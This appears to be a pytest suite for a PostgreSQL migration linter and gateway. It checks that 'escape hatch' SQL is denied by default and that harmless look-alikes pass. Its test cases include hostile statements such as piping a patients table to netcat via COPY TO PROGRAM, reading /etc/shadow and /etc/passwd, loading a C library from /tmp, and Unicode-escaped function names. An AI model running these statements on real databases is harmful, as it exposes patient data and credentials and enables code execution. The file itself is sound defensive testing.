"""Escape hatches (issue 10): statements that reach outside the database's access model
are denied by default, found wherever the call sits, and let through only by a
per-rule (or per-category) setting, in signoff.toml and in a gateway role alike."""

from __future__ import annotations

import tomllib

import pytest

from runner.config import parse_settings
from runner.errors import ConfigError
from runner.gateway.config import DEFAULT_ROLE_VERDICTS, RoleConfig, parse_gateway_config
from runner.gateway.model import Verdict
from runner.plan.build import lint_text
from runner.plan.model import Category, Decision, Finding
from runner.plan.policy import Policy
from runner.plan.rules import catalogue

PG15 = Policy(server_version=150000)


def findings(sql: str, policy: Policy = PG15) -> list[Finding]:
    return [f for _, f in lint_text(sql, "m.sql", policy=policy).findings]


HATCHES = [
    ("COPY patients TO PROGRAM 'nc 10.0.0.1 9'", "SO601"),
    ("COPY patients FROM PROGRAM $$cat /etc/shadow$$", "SO601"),
    ("COPY patients TO '/tmp/p.csv'", "SO602"),
    ("COPY patients (id) FROM E'/etc/passwd' WITH (FORMAT text)", "SO602"),
    ("SELECT pg_read_file('/etc/passwd')", "SO603"),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)", "SO603"),
    ("SELECT \"pg_read_binary_file\"('global/pg_control')", "SO603"),
    ("SELECT * FROM patients WHERE mrn = (SELECT pg_read_file('x'))", "SO603"),
    ("SELECT f FROM pg_ls_dir('/') f", "SO603"),
    ("SELECT (pg_stat_file('postgresql.conf')).size", "SO603"),
    ("INSERT INTO notes SELECT lo_import('/etc/hostname')", "SO603"),
    ("SELECT lo_export(1234, '/tmp/x')", "SO603"),
    ("CREATE TABLE t (a text DEFAULT pg_catalog.pg_read_file('x'))", "SO603"),
    ("ALTER TABLE patients ADD COLUMN leak text DEFAULT pg_read_file('x')", "SO603"),
    ("SELECT lo_unlink(1234)", "SO604"),
    ("SELECT lo_truncate(lo_open(1, 131072), 0)", "SO604"),
    ("SELECT LO_PUT(1, 0, 'x')", "SO604"),
    ("SELECT dblink_exec('dbname=ehr', 'TRUNCATE patients')", "SO605"),
    ("SELECT dblink_connect('c', 'dbname=ehr')", "SO605"),
    ("SELECT * FROM ext.dblink('c', 'SELECT 1') AS t(a int)", "SO605"),
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "SO606"),
    ("CREATE FOREIGN TABLE f (a int) SERVER s", "SO606"),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x", "SO606"),
    ("CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (user 'postgres')", "SO606"),
    ("ALTER USER MAPPING FOR app SERVER s OPTIONS (SET password 'x')", "SO606"),
    ("CREATE EXTENSION IF NOT EXISTS postgres_fdw", "SO607"),
    ("ALTER SYSTEM SET shared_preload_libraries = 'evil'", "SO608"),
    ("LOAD 'plpython3u'", "SO609"),
    ("SELECT pg_terminate_backend(4242)", "SO610"),
    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "SO610"),
    ("SELECT pg_terminate_backend((SELECT pg_backend_pid()))", "SO610"),
    ("SELECT pg_reload_conf()", "SO611"),
    ("SELECT set_config('session_replication_role', 'replica', false)", "SO612"),
    ("SELECT set_config('session_replication_role', $1, false)", "SO612"),
    ("SET session_replication_role TO replica", "SO612"),
    ("SET SESSION session_replication_role = 'local'", "SO612"),
    ("DO $$ BEGIN PERFORM pg_reload_conf(); END $$", "SO611"),
    # Spelt with Unicode escapes, the name is the one PostgreSQL reads.
    ('SELECT U&"pg\\005fread_file"(\'/etc/passwd\')', "SO603"),
    ('SELECT U&"pg!005fread_file" UESCAPE \'!\' (\'/etc/passwd\')', "SO603"),
    ('SET U&"session\\005freplication_role" = replica', "SO612"),
    # A routine that runs with triggers off.
    (
        "CREATE FUNCTION load() RETURNS void LANGUAGE sql"
        " SET session_replication_role = replica AS $$ SELECT 1 $$",
        "SO612",
    ),
    ("EXPLAIN ANALYZE SELECT pg_read_file('x')", "SO603"),
    ("CREATE FUNCTION rd(text) RETURNS text LANGUAGE 'internal' AS 'pg_read_file'", "SO613"),
    ("DO LANGUAGE plpython3u $$ import os $$", "SO613"),
    ("CREATE FUNCTION ev() RETURNS void LANGUAGE C AS '/tmp/ev.so', 'ev'", "SO613"),
    ("CREATE VIEW v AS SELECT pg_read_file('x')", "SO603"),
    ("CREATE INDEX i ON patients ((pg_read_file('x')))", "SO603"),
    ("DO $$ BEGIN EXECUTE 'COPY patients TO ''/tmp/x'''; END $$", "SO602"),
]


@pytest.mark.parametrize(("sql", "rule"), HATCHES, ids=[s for s, _ in HATCHES])
def test_escape_hatch_is_denied_by_default(sql: str, rule: str) -> None:
    found = findings(sql)
    hits = [f for f in found if f.rule == rule]
    assert hits, (sql, [(f.rule, f.message) for f in found])
    assert all(f.category is Category.ESCAPE_HATCH and f.decision is Decision.DENY for f in hits)
    assert lint_text(sql, "m.sql", policy=PG15).denied


QUIET = [
    "COPY patients TO STDOUT",
    "COPY patients FROM STDIN",
    "COPY (SELECT * FROM patients WHERE id < 5) TO STDOUT WITH (FORMAT csv, HEADER)",
    "SELECT pg_terminate_backend(pg_backend_pid())",
    "SELECT pg_catalog.pg_cancel_backend(pg_catalog.pg_backend_pid())",
    "SELECT set_config('search_path', 'ehr, public', false)",
    "SELECT set_config('app.clinic', $1, true)",
    "SET session_replication_role = origin",
    "SELECT 'pg_read_file', 'COPY t TO PROGRAM', 'dblink_exec'",
    "-- SELECT pg_reload_conf();\nSELECT 1",
    "SELECT read_file, lo_size FROM documents",
    "CREATE TABLE servers (id int)",
    "DROP EXTENSION IF EXISTS hstore",
    "SELECT pg_backend_pid()",
    "SELECT current_setting('session_replication_role')",
]


@pytest.mark.parametrize("sql", QUIET, ids=range(len(QUIET)))
def test_look_alikes_are_not_escape_hatches(sql: str) -> None:
    found = findings(sql)
    assert not [f for f in found if f.category is Category.ESCAPE_HATCH], (
        sql,
        [(f.rule, f.message) for f in found],
    )


def test_every_escape_hatch_rule_has_a_case_here() -> None:
    ids = {r.id for r in catalogue().values() if r.category is Category.ESCAPE_HATCH}
    assert ids == {rule for _, rule in HATCHES}


def test_an_inline_allow_cannot_open_an_escape_hatch() -> None:
    sql = "-- signoff: allow SO603 because we need it\nSELECT pg_read_file('x')"
    (hit,) = [f for f in findings(sql) if f.rule == "SO603"]
    assert hit.decision is Decision.DENY


def test_signoff_toml_may_allow_one_rule_or_soften_the_category() -> None:
    one = parse_settings(tomllib.loads('[rules]\nSO610 = "needs-approval"\n'), where="t")
    (hit,) = [f for f in findings("SELECT pg_cancel_backend(1)", one.policy) if f.rule == "SO610"]
    assert hit.decision is Decision.NEEDS_APPROVAL
    (other,) = [f for f in findings("SELECT pg_reload_conf()", one.policy) if f.rule == "SO611"]
    assert other.decision is Decision.DENY
    softer = parse_settings(
        tomllib.loads('[decisions]\nescape-hatch = "needs-approval"\n'), where="t"
    )
    (hit,) = [f for f in findings("SELECT pg_reload_conf()", softer.policy) if f.rule == "SO611"]
    assert hit.decision is Decision.NEEDS_APPROVAL


def test_a_policy_that_does_not_mention_the_category_denies() -> None:
    # A configuration written before the category existed still fails closed.
    policy = Policy(decisions={Category.DESTRUCTIVE: Decision.WARN}, server_version=150000)
    (hit,) = [f for f in findings("SELECT pg_reload_conf()", policy) if f.rule == "SO611"]
    assert hit.decision is Decision.DENY


GATEWAY = """
[gateway]
audience = "signoff-gateway"
state_url = "sqlite:///tmp/gw.db"

[[issuers]]
name = "ci"
issuer = "https://issuer.example"

[[databases]]
name = "ehr"
host = "db.internal"
dbname = "ehr"
user = "gw"
password_env = "EHR_DB_PASSWORD"

[[access]]
database = "ehr"
role = "deployer"
issuer = "ci"
claims = {{ repository = "acme/ehr" }}

[roles.deployer]
locking = "allow"
{extra}
"""


def role_of(extra: str) -> RoleConfig:
    config = parse_gateway_config(tomllib.loads(GATEWAY.format(extra=extra)), where="gw.toml")
    return config.roles["deployer"]


def test_gateway_roles_deny_escape_hatches_unless_told_otherwise() -> None:
    assert DEFAULT_ROLE_VERDICTS[Category.ESCAPE_HATCH] is Verdict.DENY
    plain = role_of("")
    assert plain.verdict("SO601", Category.ESCAPE_HATCH) is Verdict.DENY
    allowed = role_of('rules = { SO610 = "allow" }')
    assert allowed.verdict("SO610", Category.ESCAPE_HATCH) is Verdict.ALLOW
    assert allowed.verdict("SO601", Category.ESCAPE_HATCH) is Verdict.DENY
    softened = role_of('escape-hatch = "needs-approval"')
    assert softened.verdict("SO601", Category.ESCAPE_HATCH) is Verdict.NEEDS_APPROVAL
    # A role built without the category (an older caller) still denies.
    bare = RoleConfig("r", {Category.DESTRUCTIVE: Verdict.ALLOW})
    assert bare.verdict("SO601", Category.ESCAPE_HATCH) is Verdict.DENY


def test_gateway_config_names_the_new_categories_when_a_key_is_wrong() -> None:
    with pytest.raises(ConfigError, match="escape-hatch") as raised:
        role_of('escape_hatch = "allow"')
    assert "access-control" in str(raised.value)


FRAGMENTS = [
    "\\i schema.sql\n",
    "GRANT",
    "GRANT x TO",
    "SET",
    "SET x =",
    "SET ROLE",
    "ALTER SYSTEM",
    "ALTER ROLE",
    "ALTER TABLE t OWNER TO",
    "ALTER EVENT TRIGGER",
    "ALTER DEFAULT PRIVILEGES GRANT",
    "CREATE",
    "CREATE FUNCTION",
    "CREATE POLICY p ON t USING (",
    "CREATE PUBLICATION",
    "CREATE ROLE x PASSWORD",
    "COPY",
    "COPY t TO",
    "COPY t TO PROGRAM",
    "DO",
    "LOAD",
    'SELECT U&"',
    "SELECT set_config(",
]


@pytest.mark.parametrize("sql", FRAGMENTS, ids=range(len(FRAGMENTS)))
def test_the_families_read_fragments_without_failing(sql: str) -> None:
    # A rule that raises is turned into SO001 "rule ... failed on it": fail closed, but a
    # reader of the families' own must never be the reason.
    failed = [f for f in findings(sql) if "failed on it" in f.message]
    assert not failed, [(f.rule, f.message) for f in failed]
